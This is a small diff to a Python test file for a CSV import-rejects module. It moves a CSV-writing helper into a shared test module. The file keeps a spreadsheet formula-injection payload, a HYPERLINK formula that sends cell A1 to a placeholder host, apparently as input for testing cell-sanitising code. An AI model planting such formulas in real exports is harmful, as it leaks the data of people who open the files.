@@ -15,14 +15,9 @@ from gateway.errors import ImportFileError
 from gateway.storage.database import Database
 from gateway.storage.imports import rejects as module
 from gateway.storage.imports.rejects import plain_cell, rejects_for, safe_cell
-from tests.storage.imports.rows_of_a_clerk import IDENTITY, code, counts, csv_bytes, load, penalty
+from tests.storage.imports.rows_of_a_clerk import IDENTITY, code, counts, csv_bytes, load, penalty, written
 
 FORMULA = '=HYPERLINK("http://example.test/?"&A1,"x")'
-
-
-def written(path: Path, rows: list[dict[str, str]]) -> Path:
-    path.write_bytes(csv_bytes(rows))
-    return path
 
 
 def lines(path: Path) -> list[dict[str, str]]:
